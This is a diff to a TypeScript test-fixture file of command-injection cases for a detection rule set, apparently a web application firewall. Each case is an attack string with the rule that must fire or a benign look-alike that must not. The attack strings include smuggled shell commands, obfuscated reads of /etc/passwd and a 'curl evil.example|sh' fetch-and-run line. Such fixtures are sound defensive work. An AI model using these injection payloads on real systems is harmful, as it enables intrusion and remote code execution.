@@ -4,12 +4,21 @@ import type { ValueKind } from '../../inspectable.js';
 export interface CmdiCase {
   readonly input: string;
   readonly kind?: ValueKind;
+  /** Where the value came from (`query.x` when absent); field names matter to some rules. */
+  readonly location?: string;
   readonly expect: string | null;
+  /** For an attack, the confidence the rule must reach (paranoid strength when absent): 0.9 blocks alone. */
+  readonly min?: number;
+  /** For a benign value, the confidence it must stay below (the paranoid threshold when absent). */
+  readonly max?: number;
 }
+
+const BLOCKS = 0.9;
 
 /**
  * Command-injection cases shared by the unit test, the benchmark and the fuzz target. Attacks name the rule
- * that must fire (at paranoid strength or more); benign look-alikes must stay below the paranoid threshold.
+ * that must fire (at paranoid strength or more, or at `min`); benign look-alikes must stay below the
+ * paranoid threshold (or below `max`: a command line in a search box is below blocking strength).
  */
 export const CMDI_CASES: readonly CmdiCase[] = [
   // Separators and pipes in front of a command.
@@ -42,6 +51,7 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   { input: ';cat$IFS$9/etc/passwd', expect: 'cmdi/obfuscated-command' },
   { input: '/???/c?t /???/p??s??', expect: 'cmdi/obfuscated-command' },
   { input: '/bin/ca? /et*/passwd', expect: 'cmdi/glob-path' },
+  { input: '/[p]roc/', expect: 'cmdi/glob-path', min: BLOCKS },
   { input: '{cat,/etc/passwd}', expect: 'cmdi/obfuscated-command' },
   { input: 'a=c;b=at;$a$b /etc/hosts', expect: 'cmdi/obfuscated-command' },
   { input: '$SHELL -c id', expect: 'cmdi/obfuscated-command' },
@@ -63,6 +73,67 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: 'cmdi/ssi-directive' },
   { input: '%0D%0ARCPT TO:<victim@example.com>', kind: 'body-value', expect: 'cmdi/mail-command' },
   { input: 'hello%0D%0Aa001 LOGIN admin secret', kind: 'body-value', expect: 'cmdi/mail-command' },
+
+  // A whole value that is one command line: a tool that is no word, or a word with an option or a path.
+  { input: 'cscli decisions list', expect: 'cmdi/shell-command', min: BLOCKS },
+  {
+    input: 'ansible-inventory --graph',
+    kind: 'header-value',
+    location: 'header.user-agent',
+    expect: 'cmdi/shell-command',
+    min: BLOCKS,
+  },
+  { input: 'set -o vi', expect: 'cmdi/shell-command', min: BLOCKS },
+  {
+    input: 'more /var/log/messages',
+    kind: 'body-value',
+    location: 'body.form.file',
+    expect: 'cmdi/shell-command',
+    min: BLOCKS,
+  },
+  { input: 'kill "-"15 1', expect: 'cmdi/shell-command', min: BLOCKS },
+  { input: 'nohup who', expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: 'find / -perm -4000 -exec ls -l {} \\;', expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: ";trap 'curl evil.example|sh' EXIT", expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: '|at now "uname -a"', expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: 'alias x=id;x', expect: 'cmdi/shell-command', min: 1 },
+  { input: 'alias -g p=q', expect: 'cmdi/shell-command', min: BLOCKS },
+  { input: 'x;.sh id', expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: "1;.'system' uname", expect: 'cmdi/obfuscated-command', min: BLOCKS },
+  { input: 'q;.load /tmp/x.so', expect: 'cmdi/chained-command', min: BLOCKS },
+  { input: 'a;c$_at /etc/hosts', expect: 'cmdi/obfuscated-command', min: BLOCKS },
+  { input: ';+ls+-la+/home', kind: 'body-value', expect: 'cmdi/chained-command', min: BLOCKS },
+  {
+    input: 'https://shop.example/search?x=1&cmd=uname+-a',
+    kind: 'header-value',
+    location: 'header.referer',
+    expect: 'cmdi/shell-command',
+    min: BLOCKS,
+  },
+  { input: 'opt=g=userad[d];$g mallory', kind: 'body-value', expect: 'cmdi/obfuscated-command', min: BLOCKS },
+  { input: 'rc deploy.sh', expect: 'cmdi/shell-command', min: BLOCKS },
+  { input: 'perl /tmp/x.pl', expect: 'cmdi/shell-command', min: BLOCKS },
+  {
+    input: '"uname -a"',
+    kind: 'header-value',
+    location: 'header.user-agent',
+    expect: 'cmdi/shell-command',
+    min: BLOCKS,
+  },
+  { input: 'time date', location: 'query.run', expect: 'cmdi/chained-command', min: BLOCKS },
+  // Expansions that only shell code writes, and Windows batch comparisons.
+  { input: '$((7))z a x.7z /tmp', expect: 'cmdi/obfuscated-command', min: BLOCKS },
+  { input: '$[6*7]', expect: 'cmdi/shell-expansion', min: BLOCKS },
+  { input: '$(( $(id) ))', expect: 'cmdi/command-substitution', min: BLOCKS },
+  { input: '$(( $() + 1 ))', expect: 'cmdi/empty-substitution', min: BLOCKS },
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
+  { input: '${HOME#/}', expect: 'cmdi/shell-expansion', min: BLOCKS },
+  { input: '~-/secret', expect: 'cmdi/shell-expansion', min: BLOCKS },
+  { input: '~+', expect: 'cmdi/shell-expansion', min: BLOCKS },
+  { input: '2>/var/www/html/x.php', expect: 'cmdi/redirection', min: BLOCKS },
+  { input: 'if 3 LSS 5 dir', expect: 'cmdi/windows-batch', min: BLOCKS },
+  { input: 'if "a"=="a" type C:\\boot.ini', expect: 'cmdi/windows-batch', min: BLOCKS },
+  { input: 'CD /;CD VAR;DIR', expect: 'cmdi/chained-command', min: BLOCKS },
 
   // Benign look-alikes: words that are commands, punctuation that is an operator, prose, code.
   { input: 'the union of workers', expect: null },
@@ -129,4 +200,65 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   { input: 'Hello ${user.name}, your total is ${total}', expect: null },
   { input: 'kill bill vol 1', expect: null },
   { input: 'Apt 5B; 123 Main St. | Springfield & Co.', expect: null },
+  // A command line where people type text (search, comments), words that are tools, and near misses.
+  { input: 'kubectl get pods', location: 'query.q', expect: null, max: BLOCKS },
+  {
+    input: 'pip install requests',
+    kind: 'body-value',
+    location: 'body.json.search',
+    expect: null,
+    max: BLOCKS,
+  },
+  { input: 'ls -la', location: 'query.keywords', expect: null, max: BLOCKS },
+  { input: 'ssh tunnel', kind: 'body-value', location: 'body.json.tags.2', expect: null, max: BLOCKS },
+  {
+    input: 'npm run build',
+    kind: 'body-value',
+    location: 'body.json.steps.0.name',
+    expect: null,
+    max: BLOCKS,
+  },
+  { input: 'time -based pricing', location: 'query.plan', expect: null, max: BLOCKS },
+  { input: 'more /r/linux', location: 'query.sub', expect: null, max: BLOCKS },
+  { input: 'date /2024/05/01', location: 'query.d', expect: null, max: BLOCKS },
+  { input: 'type /api/v1/users', location: 'query.t', expect: null, max: BLOCKS },
+  { input: 'sort -name', location: 'query.order', expect: null, max: BLOCKS },
+  { input: 'ping google.com', location: 'query.host', expect: null, max: BLOCKS },
+  { input: 'sudo make me a sandwich', expect: null },
+  { input: 'government shutdown looms', expect: null },
+  { input: 'nc state university', expect: null },
+  { input: 'snap peas', expect: null },
+  { input: 'brew coffee', expect: null },
+  { input: 'find my phone', expect: null },
+  { input: 'echo hello world', expect: null },
+  { input: 'my alias is bob', expect: null },
+  { input: 'alias: John Smith', expect: null },
+  { input: '~ 5 minutes', expect: null },
+  { input: '~/Documents', expect: null },
+  { input: '> quoted reply', expect: null },
+  { input: '>/tmp', expect: null, max: BLOCKS },
+  { input: 'grades.$[elem].score', kind: 'body-name', expect: null, max: BLOCKS },
+  { input: 'grades.$[]', kind: 'body-name', expect: null, max: BLOCKS },
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell default, as in a compose file
+  { input: '${POSTGRES_PASSWORD:-secret}', expect: null, max: BLOCKS },
+  { input: 'if ($a == $b) echo "same";', kind: 'body-value', expect: null, max: BLOCKS },
+  { input: 'c++ tutorial', expect: null },
+  { input: 'rc car', expect: null },
+  { input: 'a $constructor $toString $__proto__', expect: null },
+  { input: 'RC1', expect: null },
+  { input: 'sort=date&dir=asc', expect: null },
+  { input: 'python is fun', expect: null },
+  { input: 'CD /DVD drive', expect: null, max: BLOCKS },
+  { input: '/???', expect: null },
+  { input: '/*', expect: null },
+  { input: '/e*', expect: null },
+  { input: 'Rock+and+Roll', expect: null },
+  { input: '+1+555+123+4567', expect: null },
+  { input: "$_GET['id']", expect: null },
+  {
+    input: 'https://example.com/?q=cats+and+dogs&page=2',
+    kind: 'header-value',
+    location: 'header.referer',
+    expect: null,
+  },
 ];
